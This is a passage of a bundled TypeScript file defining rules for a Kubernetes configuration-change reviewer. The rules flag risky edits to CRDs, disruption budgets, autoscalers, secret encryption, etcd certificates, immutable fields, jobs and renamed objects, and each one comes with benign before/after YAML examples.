      why: "It may take less than before, and nobody can tell from the patterns alone; objects that no longer fit cannot be changed.",
      fix: "Try the new pattern on the values in use."
    },
    "validation-added": { risk: "medium", message: (c) => `${fieldOf(c)} has a new rule: \`${c.to ?? ""}\`.` }
  },
  examples: [
    { before: definitionOf(INTEGER2), after: needing(INTEGER2), outcome: "required-added" },
    {
      before: definitionOf("{ type: string, enum: [a, b] }"),
      after: definitionOf("{ type: string, enum: [a] }"),
      outcome: "enum-narrowed"
    },
    {
      before: definitionOf("{ type: integer, minimum: 1 }"),
      after: definitionOf("{ type: integer, minimum: 2 }"),
      outcome: "bound-tightened"
    },
    { before: definitionOf(TEXT2), after: definitionOf("{ type: string, enum: [a] }"), outcome: "enum-added" },
    { before: definitionOf(INTEGER2), after: definitionOf("{ type: integer, minimum: 10 }"), outcome: "bound-added" },
    { before: definitionOf("{ type: string, nullable: true }"), after: definitionOf(TEXT2), outcome: "null-refused" },
    {
      before: definitionOf("{ type: object, x-kubernetes-preserve-unknown-fields: true }"),
      after: definitionOf("{ type: object }"),
      outcome: "unknown-refused"
    },
    { before: definitionOf(TEXT2), after: definitionOf('{ type: string, pattern: "^a" }'), outcome: "pattern-added" },
    {
      before: definitionOf('{ type: string, pattern: "^[a-z]+$" }'),
      after: definitionOf('{ type: string, pattern: "^[a-z0-9]+$" }'),
      outcome: "pattern-changed"
    },
    { before: definitionOf('{ type: string, pattern: "^a" }'), after: definitionOf(TEXT2), outcome: "none" },
    {
      before: definitionOf(INTEGER2),
      after: definitionOf("{ type: integer, x-kubernetes-validations: [{ rule: self > 0 }] }"),
      outcome: "validation-added"
    },
    { before: definitionOf(INTEGER2), after: needing("{ type: integer, default: 1 }"), outcome: "none" },
    { before: definitionOf("{ type: integer, minimum: 2 }"), after: definitionOf("{ type: integer, minimum: 1 }"), outcome: "none" },
    { before: definitionOf("{ type: string, enum: [a] }"), after: definitionOf("{ type: string, enum: [b, a] }"), outcome: "none" },
    { before: definitionOf(INTEGER2), after: definitionOf("{ type: integer, multipleOf: 5 }"), outcome: "bound-added" },
    {
      before: definitionOf("{ type: object, additionalProperties: true }"),
      after: definitionOf("{ type: object }"),
      outcome: "unknown-refused"
    }
  ],
  classify: among2(
    "required-added",
    "enum-narrowed",
    "enum-added",
    "bound-tightened",
    "bound-added",
    "null-refused",
    "unknown-refused",
    "pattern-added",
    "pattern-changed",
    "validation-added"
  )
});

// src/domains/config/rules/kubernetes/crds.ts
var INTEGER3 = "{ type: integer }";
var TEXT3 = "{ type: string }";
var without4 = definitionOf(INTEGER3).replace("size:", "weight:");
var definition = definitionOf(INTEGER3).replace("scope:", "names: { plural: shops }\n  scope:");
var crds_default = [
  configRule({
    id: "config/crd-withdrawn",
    on: "crd-broken",
    class: "schema-breaking",
    title: "definition of custom objects withdrawn",
    why: "Clients that use it get errors from the next request on.",
    fix: "Serve the old version until no client asks for it and all objects are stored in the new one.",
    outcomes: {
      removed: {
        risk: "critical",
        message: (c) => `The definition \`${c.crd}\` was removed.`,
        why: "Removing the definition deletes all its objects from the cluster.",
        fix: "Back the objects up first, and remove the definition last."
      },
      "copy-removed": {
        risk: "low",
        title: "copy of a definition removed",
        message: (c) => `The definition \`${c.crd}\` was removed here; \`${c.to ?? ""}\` still holds it.`,
        why: "Whoever installs from this place alone loses the definition, and all its objects with it.",
        fix: "Let them install from the other place before they update."
      },
      "version-removed": {
        risk: "critical",
        message: (c) => `\`${c.crd}\` no longer serves version \`${c.field}\`${more(c)}${c.wasStored ? ", in which its objects were stored" : ""}.`
      },
      "scope-changed": {
        risk: "critical",
        message: (c) => `The scope of \`${c.crd}\` ${values(c)}.`,
        why: "The API refuses the change: the definition must be removed first, and its objects with it.",
        fix: "Define a new kind with the other scope, and copy the objects over."
      },
      "identity-changed": {
        risk: "critical",
        message: (c) => c.field === "name" ? `The definition \`${c.from ?? ""}\` gives way to \`${c.to ?? ""}\`.` : `\`${c.field}\` of \`${c.crd}\` ${values(c)}.`,
        why: "It is another definition now: the objects that exist are not found under it, and go with the old one when that is removed.",
        fix: "Add the new definition beside the old one, and copy the objects over."
      }
    },
    examples: [
      { before: definitionOf(INTEGER3), after: "", outcome: "removed" },
      { before: definitionOf(INTEGER3), after: definitionOf(INTEGER3, "served: false"), outcome: "version-removed" },
      { before: definitionOf(INTEGER3), after: definitionOf(INTEGER3, "served: true", "Cluster"), outcome: "scope-changed" },
      {
        before: definitionOf(INTEGER3).replace("scope:", "group: a.example.com\n  scope:"),
        after: definitionOf(INTEGER3).replace("scope:", "group: b.example.com\n  scope:"),
        outcome: "identity-changed"
      },
      {
        before: { "old/shops.yaml": definition, "new/shops.yaml": definition },
        after: { "new/shops.yaml": definition },
        outcome: "copy-removed"
      },
      {
        before: { "crds/all.yaml": definition, "crds/shops.yaml": definition },
        after: { "crds/shops.yaml": definition },
        outcome: "none"
      },
      { before: definitionOf(INTEGER3), after: definitionOf(INTEGER3, "served: true # still"), outcome: "none" },
      { before: "", after: definitionOf(INTEGER3), outcome: "none" }
    ],
    classify: among2("removed", "copy-removed", "version-removed", "scope-changed", "identity-changed")
  }),
  configRule({
    id: "config/crd-field-broken",
    on: "crd-broken",
    class: "schema-breaking",
    title: "field of custom objects broken",
    why: "Objects that set the field lose it on the next write, and manifests that use it no longer do what they say.",
    fix: "Keep the field, and mark it as deprecated in its description.",
    outcomes: {
      "field-removed": { risk: "high", message: (c) => `${fieldOf(c)} was removed.` },
      "field-renamed": {
        risk: "high",
        title: "field of custom objects renamed",
        message: (c) => `${fieldOf(c)} is now \`${c.to ?? ""}\`.`,
        fix: "Keep the old field beside the new one, and let the controller read both."
      },
      "type-changed": {
        risk: "high",
        message: (c) => `The type of ${fieldOf(c)} ${values(c)}.`,
        why: "Objects that exist no longer validate: nobody can change them, and controllers fail to read them.",
        fix: "Add a new field with the other type, and let the controller read both."
      },
      "format-changed": {
        risk: "medium",
        message: (c) => `The format of ${fieldOf(c)} ${values(c)}.`,
        why: "Values that were valid may no longer be, and clients may read them wrongly.",
        fix: "Add a new field with the other format."
      }
    },
    examples: [
      { before: definitionOf(INTEGER3), after: without4, outcome: "field-removed" },
      { before: definitionOf(INTEGER3), after: definitionOf(INTEGER3).replace("size:", "shopSize:"), outcome: "field-renamed" },
      { before: definitionOf(INTEGER3), after: definitionOf(TEXT3), outcome: "type-changed" },
      {
        before: definitionOf("{ anyOf: [{ type: integer }, { type: string }], x-kubernetes-int-or-string: true }"),
        after: definitionOf("{ type: integer }"),
        outcome: "type-changed"
      },
      {
        before: definitionOf("{ type: string, format: date }"),
        after: definitionOf("{ type: string, format: date-time }"),
        outcome: "format-changed"
      },
      { before: without4, after: without4.replace("weight: {", "size: { type: string }, weight: {"), outcome: "none" },
      { before: definitionOf(INTEGER3), after: definitionOf("{ type: integer, description: of the shop }"), outcome: "none" }
    ],
    classify: among2("field-removed", "field-renamed", "type-changed", "format-changed")
  })
];

// src/domains/config/rules/kubernetes/disruptions.ts
var budget3 = object("policy/v1", "PodDisruptionBudget");
var scaler = object("autoscaling/v2", "HorizontalPodAutoscaler");
var dialect19 = "kubernetes";
var MOST2 = 1e9;
function amount(node, { before: before3, after }) {
  const kinds = new Set([before3, after].flatMap((side2) => side2?.kind === "scalar" ? [side2.text.endsWith("%")] : []));
  const [, digits] = node.kind === "scalar" ? /^(\d{1,9})%?$/.exec(node.text) ?? [] : [];
  return digits === void 0 || kinds.size > 1 ? void 0 : Number(digits);
}
function inverse(node, setting) {
  const found = amount(node, setting);
  return found === void 0 ? void 0 : MOST2 - found;
}
var letsGo = (node, { name }) => {
  if (node.kind !== "scalar") return void 0;
  return Number(!(name === "minAvailable" ? /^100%$/ : /^0%?$/).test(node.text));
};
var disruptions_default = [
  control({
    id: "config/disruption-budget-blocks",
    class: "availability",
    title: "disruption budget lets no pod go",
    why: "No node that runs such a pod can be drained: upgrades and repairs of the cluster stand still.",
    fix: "Let one pod go at a time, and run at least two.",
    equivalents: ["kube-linter:pdb-min-available", "kube-linter:pdb-max-unavailable"],
    dialect: dialect19,
    governs: either(
      ofKind("PodDisruptionBudget", "spec", "minAvailable"),
      ofKind("PodDisruptionBudget", "spec", "maxUnavailable")
    ),
    rank: letsGo,
    absent: 1,
    outcomes: { flip: moved2("medium"), open: moved2("medium"), born: moved2("low") },
    examples: [
      { before: budget3("minAvailable: 50%"), after: budget3("minAvailable: 100%"), outcome: "flip" },
      { before: budget3(), after: budget3("maxUnavailable: 0"), outcome: "open" },
      { before: "", after: budget3("maxUnavailable: 0"), outcome: "born" },
      { before: budget3("maxUnavailable: 1"), after: budget3("maxUnavailable: 2"), outcome: "none" }
    ]
  }),
  control({
    id: "config/disruption-budget-lowered",
    class: "availability",
    title: "fewer pods sure to run",
    why: "A node drain may now stop more pods at once.",
    fix: "Keep as many as the load needs.",
    dialect: dialect19,
    governs: ofKind("PodDisruptionBudget", "spec", "minAvailable"),
    rank: amount,
    outcomes: { flip: moved2("medium") },
    examples: [
      { before: budget3("minAvailable: 2"), after: budget3("minAvailable: 1"), outcome: "flip" },
      { before: budget3("minAvailable: 2"), after: budget3("minAvailable: 50%"), outcome: "none" },
      { before: budget3("minAvailable: 1"), after: budget3("minAvailable: 2"), outcome: "none" }
    ]
  }),
  control({
    id: "config/disruption-budget-raised",
    class: "availability",
    title: "more pods may be down",
    why: "A node drain may now stop more pods at once.",
    fix: "Keep as many running as the load needs.",
    dialect: dialect19,
    governs: ofKind("PodDisruptionBudget", "spec", "maxUnavailable"),
    rank: inverse,
    outcomes: { flip: moved2("medium") },
    examples: [
      { before: budget3("maxUnavailable: 1"), after: budget3("maxUnavailable: 2"), outcome: "flip" },
      { before: budget3("maxUnavailable: 25%"), after: budget3("maxUnavailable: 50%"), outcome: "flip" },
      { before: budget3("maxUnavailable: 50%"), after: budget3("maxUnavailable: 25%"), outcome: "none" }
    ]
  }),
  control({
    id: "config/autoscaler-lowered",
    class: "availability",
    title: "autoscaler may start fewer pods",
    why: "At the peak the pods that are left carry the load of those that can no longer be started.",
    fix: "Compare the new number with the pods of the last peak.",
    dialect: dialect19,
    governs: either(
      ofKind("HorizontalPodAutoscaler", "spec", "minReplicas"),
      ofKind("HorizontalPodAutoscaler", "spec", "maxReplicas")
    ),
    rank: amount,
    outcomes: {
      single: { ...moved2("medium"), why: "One pod may be left: each restart or crash of it is an outage." },
      lowered: moved2("low")
    },
    refine: ({ transition, name, to }) => {
      if (transition !== "flip") return void 0;
      if (name === "minReplicas") return to === "1" ? "single" : void 0;
      return "lowered";
    },
    examples: [
      { before: scaler("minReplicas: 3"), after: scaler("minReplicas: 1"), outcome: "single" },
      { before: scaler("maxReplicas: 10"), after: scaler("maxReplicas: 5"), outcome: "lowered" },
      { before: scaler("minReplicas: 3"), after: scaler("minReplicas: 2"), outcome: "none" },
      { before: scaler("maxReplicas: 5"), after: scaler("maxReplicas: 10"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/encryption-at-rest.ts
var args3 = (flag) => container(flag === "" ? "args: [--port=1]" : `args: [--port=1, ${flag}]`);
var encryption = (providers, resources = "secrets") => `apiVersion: apiserver.config.k8s.io/v1
kind: EncryptionConfiguration
resources:
  - resources: [${resources}]
    providers: [${providers}]
`;
var KEYS = "{ aescbc: { keys: [] } }";
var named2 = (key3) => `{ aescbc: { keys: [{ name: ${key3} }] } }`;
var IDENTITY2 = "{ identity: {} }";
var encryption_at_rest_default = [
  control({
    id: "config/secrets-unencrypted",
    class: "encryption-disabled",
    title: "secrets stored in clear text",
    why: "The first provider is the one that writes: from now on secrets lie readable in etcd and in its backups.",
    fix: "Put the encrypting provider first, and rewrite all secrets.",
    dialect: "kubernetes",
    governs: isEffective("encryption"),
    rank: (node) => Number(!isIdentity(node)),
    absent: 0,
    outcomes: {
      flip: { risk: "critical", message: () => "The provider `identity` now comes first." },
      drop: { risk: "critical", message: () => "A resource is no longer listed for encryption." },
      hardened: { ...hardened("secrets now encrypted"), message: () => "An encrypting provider now comes first." }
    },
    examples: [
      { before: encryption(`${KEYS}, ${IDENTITY2}`), after: encryption(`${IDENTITY2}, ${KEYS}`), outcome: "flip" },
      { before: encryption(KEYS, "secrets, configmaps"), after: encryption(KEYS, "configmaps"), outcome: "drop" },
      { before: encryption(IDENTITY2), after: encryption(`${KEYS}, ${IDENTITY2}`), outcome: "hardened" },
      { before: encryption(KEYS), after: encryption(`${KEYS}, ${IDENTITY2}`), outcome: "none" }
    ]
  }),
  control({
    id: "config/decryption-removed",
    class: "data-loss",
    title: "key to stored secrets removed",
    why: "What this provider or key encrypted can no longer be read: the API server fails on those objects.",
    fix: "Keep it behind the new one until every secret has been written again.",
    dialect: "kubernetes",
    governs: isEffective("decryption"),
    rank: () => 1,
    absent: 0,
    outcomes: {
      drop: {
        risk: "high",
        message: () => "A provider that encrypted what is stored was removed, or one of its keys."
      }
    },
    examples: [
      { before: encryption(`${named2("b")}, ${named2("a")}`), after: encryption(named2("b")), outcome: "drop" },
      {
        before: encryption(named2("a")),
        after: encryption(`${named2("b")}, ${named2("a")}`),
        outcome: "none"
      },
      { before: encryption(`${named2("a")}, ${IDENTITY2}`), after: encryption(named2("a")), outcome: "none" }
    ]
  }),
  control({
    id: "config/encryption-config-removed",
    class: "encryption-disabled",
    title: "encryption of secrets switched off",
    why: "Without the file the API server writes secrets to etcd in clear text, and can no longer read the encrypted ones.",
    fix: "Keep `--encryption-provider-config`.",
    equivalents: ["checkov:CKV_K8S_104"],
    dialect: "kubernetes",
    governs: componentFlag("encryption-provider-config"),
    rank: () => 1,
    absent: 0,
    outcomes: { drop: moved2("critical"), hardened: hardened("encryption of secrets switched on") },
    examples: [
      { before: args3("--encryption-provider-config=/etc/enc.yaml"), after: args3(""), outcome: "drop" },
      { before: args3(""), after: args3("--encryption-provider-config=/etc/enc.yaml"), outcome: "hardened" },
      {
        before: args3("--encryption-provider-config=/etc/enc.yaml"),
        after: args3("--encryption-provider-config=/etc/new.yaml"),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/kubernetes/environment.ts
var variable2 = (value) => container(`env:
  - { name: PORT, value: ${value} }`);
var referred = (name) => container(`env:
  - { name: ${name}, valueFrom: { secretKeyRef: { name: db, key: it } } }`);
var isLiteral = (node) => node?.kind === "scalar" && node.text !== "" && !isDynamic(node);
var environment_default = [
  control({
    id: "config/variable-not-text",
    class: "compatibility",
    title: "variable is no text",
    why: "The API takes texts only and refuses the whole object.",
    fix: "Put the value in quotes.",
    dialect: "kubernetes",
    governs: inContainer("env", "value"),
    rank: (node) => node.kind === "scalar" ? Number(typeof node.value !== "number" && typeof node.value !== "boolean") : 0,
    absent: 1,
    tell: (node) => node.kind === "scalar" ? typeof node.value === "string" ? `"${node.text}"` : node.text : "",
    outcomes: { flip: moved2("high"), open: moved2("high"), born: moved2("high") },
    examples: [
      { before: variable2('"8080"'), after: variable2("8080"), outcome: "flip" },
      { before: container(), after: variable2("8080"), outcome: "born" },
      {
        before: container("env:\n  - name: PORT"),
        after: container("env:\n  - name: PORT\n    value: true"),
        outcome: "open"
      },
      { before: variable2('"8080"'), after: variable2('"8081"'), outcome: "none" },
      { before: variable2("8080"), after: variable2('"8080"'), outcome: "none" },
      { before: variable2('"8080"'), after: variable2('"{{ .Values.port }}"'), outcome: "none" }
    ]
  }),
  control({
    id: "config/variable-inlined",
    class: "secret",
    title: "value in place of a reference to a secret",
    why: "What was kept in a Secret now stands in the file, its history and the object, for all who may read them.",
    fix: "Put the reference back, and change the value wherever it was in use.",
    equivalents: ["checkov:CKV_K8S_35", "kube-linter:env-var-secret"],
    dialect: "kubernetes",
    governs: (setting) => inContainer("env", "valueFrom")(setting) && !isSecretKey(textAt(setting.ownerAfter, "name") ?? ""),
    rank: (node, { ownerAfter }) => at(node, "secretKeyRef") !== void 0 && isLiteral(at(ownerAfter, "value")) ? 1 : void 0,
    absent: 0,
    outcomes: { drop: { risk: "high", message: () => "The variable was taken from a Secret and is now written out." } },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      { before: referred("DATABASE"), after: container("env:\n  - { name: DATABASE, value: shop }"), outcome: "drop" },
      {
        before: referred("DATABASE"),
        after: container('env:\n  - { name: DATABASE, value: "{{ .Values.db }}" }'),
        outcome: "none"
      },
      { before: referred("DATABASE"), after: container(), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/etcd-files.ts
var path11 = "etcd.yaml";
var etcd2 = (lines) => `name: etcd-1
client-transport-security:
  client-cert-auth: true
${lines}`;
var args4 = (flag) => container(`command: [etcd, --name=a${flag === "" ? "" : `, ${flag}`}]`);
var FILES = ["cert-file", "key-file", "trusted-ca-file", "ca-file"];
var BLOCKS = ["client-transport-security", "peer-transport-security"];
var isFlag = (setting) => FILES.some((file) => componentFlag(file)(setting) || componentFlag(`peer-${file}`)(setting)) && setting.keys.some((key3) => key3 === "command" || key3 === "args");
var etcd_files_default = [
  control({
    id: "config/etcd-certificate-removed",
    class: "encryption-disabled",
    title: "certificate of etcd taken away",
    why: "Without its own certificate etcd does not encrypt; without one of the authority it lets in whoever asks.",
    fix: "Keep the setting, and renew the file it names.",
    equivalents: ["checkov:CKV_K8S_116", "checkov:CKV_K8S_119"],
    governs: either(isFlag, ...BLOCKS.flatMap((block2) => FILES.map((file) => atEnd(block2, file)))),
    rank: (node) => node.kind === "scalar" ? Number(node.text !== "") : void 0,
    absent: 0,
    outcomes: { flip: moved2("critical"), drop: moved2("critical"), hardened: hardened("etcd has a certificate") },
    examples: [
      { path: path11, before: etcd2("  cert-file: /a.crt\n"), after: etcd2("  cert-file: ''\n"), outcome: "flip" },
      { path: path11, before: etcd2("  trusted-ca-file: /ca.crt\n"), after: etcd2(""), outcome: "drop" },
      { before: args4("--peer-cert-file=/a.crt"), after: args4(""), outcome: "drop" },
      { path: path11, before: etcd2(""), after: etcd2("  cert-file: /a.crt\n"), outcome: "hardened" },
      { path: path11, before: etcd2("  cert-file: /a.crt\n"), after: etcd2("  cert-file: /b.crt\n"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/immutable-fields.ts
var FIXED_OF_SET = ["podManagementPolicy", "serviceName", "volumeClaimTemplates"];
var isClaims = (keys) => keys.length === 2 && keys[1] === "volumeClaimTemplates";
var isNoChange = (keys) => keys.length === 3 && ["apiVersion", "kind", "status"].includes(keys[2] ?? "") || keys.some((key3) => / \(\d+\)$/.test(key3));
var CLAIM = ["accessModes", "storageClassName", "volumeMode", "volumeName", "selector", "dataSource"];
var inSpec = (keys, ...names2) => keys[0] === "spec" && names2.includes(keys[1] ?? "");
var FIXED = /* @__PURE__ */ new Map([
  ["StatefulSet", (keys) => inSpec(keys, ...FIXED_OF_SET) && !isClaims(keys) && !isNoChange(keys)],
  ["PersistentVolumeClaim", (keys) => inSpec(keys, ...CLAIM)],
  ["StorageClass", (keys) => ["provisioner", "parameters", "volumeBindingMode"].includes(keys[0] ?? "")],
  ["Service", (keys) => inSpec(keys, "clusterIP")]
]);
var isSelector2 = (setting) => isEffective("selector")(setting) && kindOf(setting.document.after) !== "Service";
function isFixed(setting) {
  const { document, keys } = setting;
  const { before: before3, after } = document;
  if (before3 === void 0 || after === void 0 || nameOf2(before3) !== nameOf2(after)) return false;
  return kindOf(before3) === kindOf(after) && (isSelector2(setting) || (FIXED.get(kindOf(after))?.(keys) ?? false));
}
var deployment = object("apps/v1", "Deployment");
var set = object("apps/v1", "StatefulSet");
var claim2 = object("v1", "PersistentVolumeClaim");
var immutable_fields_default = control({
  id: "config/immutable-field",
  class: "compatibility",
  title: "fixed field changed",
  why: "The API refuses to change this field of an object that exists: the update fails.",
  fix: "Create an object under another name, move over, and delete this one.",
  dialect: "kubernetes",
  governs: isFixed,
  // Null is the same as not set.
  rank: (node, setting) => {
    if (node.kind === "scalar" && node.value === null) return void 0;
    return isSelector2(setting) ? sameText(node, setting) : untouched(node, setting);
  },
  // What a driver is given changes together, in each class that names it.
  cause: ({ keys }) => ["parameters", "provisioner"].includes(keys[0] ?? "") ? "storage classes" : void 0,
  outcomes: { flip: moved2("high"), drop: moved2("high"), open: moved2("high") },
  examples: [
    {
      before: deployment("selector: { matchLabels: { app: web } }"),
      after: deployment("selector: { matchLabels: { app: shop } }"),
      outcome: "flip"
    },
    { before: set("serviceName: web"), after: set("serviceName: shop"), outcome: "flip" },
    {
      before: deployment("selector: { matchLabels: { app: web, tier: a } }"),
      after: deployment("selector: { matchLabels: { app: web } }"),
      outcome: "flip"
    },
    { before: claim2("storageClassName: fast"), after: claim2(), outcome: "drop" },
    { before: claim2(), after: claim2("storageClassName: fast"), outcome: "open" },
    { before: claim2(), after: claim2("storageClassName: null"), outcome: "none" },
    {
      before: set("volumeClaimTemplates: [{ metadata: { name: data } }]"),
      after: set("volumeClaimTemplates: [{ apiVersion: v1, kind: PersistentVolumeClaim, metadata: { name: data } }]"),
      outcome: "none"
    },
    {
      path: "charts/web/templates/set.yaml",
      before: set("{{- if .Values.on }}\nreplicas: 3\n{{- end }}"),
      after: set("{{- if .Values.off }}\nreplicas: 0\n{{- else }}\nreplicas: 3\n{{- end }}"),
      outcome: "none"
    },
    { before: set("replicas: 1"), after: set("replicas: 2"), outcome: "none" },
    { before: set("strategy: { type: Recreate }"), after: set(), outcome: "none" },
    {
      before: deployment("selector: { matchLabels: { app: web } }"),
      after: deployment("selector: { matchLabels: { app: shop } }").replace("name: web", "name: shop"),
      outcome: "none"
    },
    { before: "", after: deployment("selector: { matchLabels: { app: web } }"), outcome: "none" }
  ]
});

// src/domains/config/rules/kubernetes/immutable-objects.ts
var dialect20 = "kubernetes";
var job = (image) => `apiVersion: batch/v1
kind: Job
metadata: { name: seed }
spec:
  template: { spec: { containers: [{ name: a, image: '${image}' }] } }
`;
var map4 = (lines) => `apiVersion: v1
kind: ConfigMap
metadata: { name: shop }
${lines}
`;
var volume = (server2) => `apiVersion: v1
kind: PersistentVolume
metadata: { name: a }
spec: { capacity: { storage: 1Gi }, nfs: { server: ${server2} } }
`;
var ingress2 = object("networking.k8s.io/v1", "Ingress");
var ofJob = ({ document }) => kindOf(document.after) === "Job";
var isFixed2 = isEffective("fixed");
var immutable_objects_default = [
  control({
    id: "config/immutable-job",
    class: "compatibility",
    title: "job changed that cannot be",
    why: "The API refuses to change the pods of a job that exists: the update fails until somebody deletes it.",
    fix: "Give the job a new name, or `ttlSecondsAfterFinished`, or let a hook delete it first.",
    dialect: dialect20,
    governs: (setting) => isFixed2(setting) && ofJob(setting),
    rank: unchanged,
    outcomes: { flip: { risk: "medium", message: () => "What the job runs changed, and its name did not." } },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: job("a:1.0.0"), after: job("a:2.0.0"), outcome: "flip" },
      { before: job("a:1.0.0"), after: job("a:2.0.0").replace("name: seed", "name: seed-2"), outcome: "none" },
      {
        before: job("a:1.0.0"),
        after: job("a:2.0.0").replace("name: seed", "name: seed, annotations: { helm.sh/hook: pre-upgrade }"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/immutable-object",
    class: "compatibility",
    title: "object changed that is fixed",
    why: "The API refuses the change: the update fails, and pods keep what they have.",
    fix: "Create an object under another name, and let those who use it name the new one.",
    dialect: dialect20,
    governs: (setting) => isFixed2(setting) && !ofJob(setting),
    rank: unchanged,
    outcomes: {
      flip: { risk: "high", message: () => "What the object holds changed, and the API does not let it." },
      drop: { risk: "high", message: () => "What the object holds was removed, and the API does not let it." }
    },
    refine: ({ transition }) => transition === "flip" || transition === "drop" ? transition : void 0,
    examples: [
      {
        before: map4("immutable: true\ndata: { a: b }"),
        after: map4("immutable: true\ndata: { a: c }"),
        outcome: "flip"
      },
      { before: map4("immutable: true\ndata: { a: b }"), after: map4("data: { a: b }"), outcome: "drop" },
      { before: volume("a"), after: volume("b"), outcome: "flip" },
      { before: volume("a"), after: volume("a").replace("1Gi", "2Gi"), outcome: "none" },
      { before: map4("data: { a: b }"), after: map4("data: { a: c }"), outcome: "none" }
    ]
  }),
  control({
    id: "config/ingress-class-changed",
    class: "compatibility",
    title: "ingress served by another controller",
    why: "The old controller drops the hosts at once; annotations made for it mean nothing to the new one.",
    fix: "Add a second ingress for the new class, move the traffic, and remove the old one.",
    dialect: dialect20,
    governs: ofKind("Ingress", "spec", "ingressClassName"),
    rank: untouched,
    outcomes: { flip: moved2("medium") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: ingress2("ingressClassName: nginx"), after: ingress2("ingressClassName: traefik"), outcome: "flip" },
      { before: ingress2(), after: ingress2("ingressClassName: nginx"), outcome: "none" },
      { before: ingress2("ingressClassName: nginx"), after: ingress2('ingressClassName: "nginx"'), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/jobs.ts
var cronJob = object("batch/v1", "CronJob");
var job2 = object("batch/v1", "Job");
var scheduled = (when) => cronJob(`schedule: '${when}'`);
var whole = (node) => node.kind === "scalar" && /^\d{1,9}$/.test(node.text) ? Number(node.text) : void 0;
var jobs_default2 = [
  control({
    id: "config/cron-job-overlap",
    class: "availability",
    title: "runs of a job may overlap",
    why: "A run that takes long meets the next one, and both work on the same data.",
    fix: "Keep `concurrencyPolicy: Forbid`, unless runs are safe side by side.",
    dialect: WORKLOADS2,
    governs: atEnd("spec", "concurrencyPolicy"),
    rank: unless("Allow"),
    ...safeWhenSet({
      risk: "medium",
      praise: "runs of the job no longer overlap",
      weak: "concurrencyPolicy: Allow",
      safe: "concurrencyPolicy: Forbid",
      file: cronJob
    })
  }),
  control({
    id: "config/cron-job-suspended",
    class: "availability",
    title: "job no longer runs",
    why: "Whatever relies on the schedule, a backup or a renewal, silently stops.",
    fix: "Remove `suspend`, or say in the change how long it shall rest.",
    dialect: WORKLOADS2,
    governs: atEnd("spec", "suspend"),
    rank: safeOff,
    ...weakWhenSet({
      risk: "medium",
      praise: "job runs again",
      weak: "suspend: true",
      safe: "suspend: false",
      file: cronJob
    })
  }),
  control({
    id: "config/cron-job-rescheduled",
    class: "availability",
    title: "job runs at other times",
    why: "Whatever waits for its result, a report or a renewal, gets it at another time or less often.",
    fix: "Check that what relies on the job fits the new times.",
    dialect: WORKLOADS2,
    governs: ofKind("CronJob", "spec", "schedule"),
    rank: untouched,
    outcomes: { flip: moved2("low") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: scheduled("0 0 * * *"), after: scheduled("0 0 1 * *"), outcome: "flip" },
      { before: scheduled("0 0 * * *"), after: scheduled("0 0 * * *").replaceAll("'", '"'), outcome: "none" },
      { before: "", after: scheduled("0 0 * * *"), outcome: "none" }
    ]
  }),
  control({
    id: "config/job-given-up-sooner",
    class: "availability",
    title: "job given up sooner",
    why: "A run that is slow, or fails once by chance, now ends as failed.",
    fix: "Leave room for the slowest run and for a failure or two.",
    dialect: WORKLOADS2,
    governs: either(atEnd("spec", "backoffLimit"), atEnd("spec", "activeDeadlineSeconds")),
    rank: whole,
    outcomes: { flip: moved2("low") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: job2("backoffLimit: 6"), after: job2("backoffLimit: 0"), outcome: "flip" },
      { before: job2("activeDeadlineSeconds: 600"), after: job2("activeDeadlineSeconds: 60"), outcome: "flip" },
      { before: job2("backoffLimit: 0"), after: job2("backoffLimit: 6"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/object-renamed.ts
var claim3 = (name) => `apiVersion: v1
kind: PersistentVolumeClaim
metadata: { name: ${name} }
spec: { storageClassName: fast, accessModes: [ReadWriteOnce], resources: { requests: { storage: 1Gi } } }
`;
var web = (name, kind = "Deployment", namespace2 = "shop") => `apiVersion: apps/v1
kind: ${kind}
metadata: { name: ${name}, namespace: ${namespace2} }
spec: { replicas: 3, template: { spec: { containers: [{ name: web, image: web }] } } }
`;
var secret2 = (name, used) => `apiVersion: v1
kind: Secret
metadata: { name: ${name}, namespace: shop, labels: { app: web, team: shop } }
type: Opaque
immutable: false
---
${pod(`volumes: [{ name: keys, secret: { secretName: ${used} } }]`)}`;
var policy2 = (name) => `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: ${name} }
spec: { podSelector: { matchLabels: { app: web } }, ingress: [{ from: [{ podSelector: {} }] }] }
`;
var RELIED_ON = /* @__PURE__ */ new Set(["PersistentVolume", "PersistentVolumeClaim", "Service", "StatefulSet"]);
var CALLED_BY_NONE = /* @__PURE__ */ new Set([
  "CiliumNetworkPolicy",
  "ExternalSecret",
  "GRPCRoute",
  "HTTPRoute",
  "HorizontalPodAutoscaler",
  "Ingress",
  "IngressRoute",
  "MutatingWebhookConfiguration",
  "NetworkPolicy",
  "PodDisruptionBudget",
  "PodMonitor",
  "PrometheusRule",
  "ServiceMonitor",
  "ValidatingWebhookConfiguration",
  "VerticalPodAutoscaler"
]);
var says3 = ({ objectKind, what, from: from3, to }) => `The ${what} of a \`${objectKind}\` goes from \`${from3}\` to \`${to}\`.`;
var object_renamed_default = configRule({
  id: "config/object-renamed",
  on: "object-renamed",
  class: "renamed",
  title: "object under another name",
  why: "The cluster gets a second object: the old one is deleted at once, or stays and runs on unseen.",
  fix: "Add the new object beside the old one, and remove that when nothing uses it any more.",
  outcomes: {
    "relied-on": {
      risk: "high",
      message: says3,
      why: "Whoever calls it by its name no longer finds it; data that is kept under the name stays behind or is deleted."
    },
    other: { risk: "medium", message: says3 },
    followed: {
      risk: "low",
      message: says3,
      why: "Those of this change who name it follow; who names it from elsewhere finds nothing."
    },
    "by-none": {
      risk: "low",
      message: says3,
      why: "It takes effect under any name, and so does the old one until somebody deletes it.",
      fix: "Delete the old object when the new one stands."
    }
  },
  examples: [
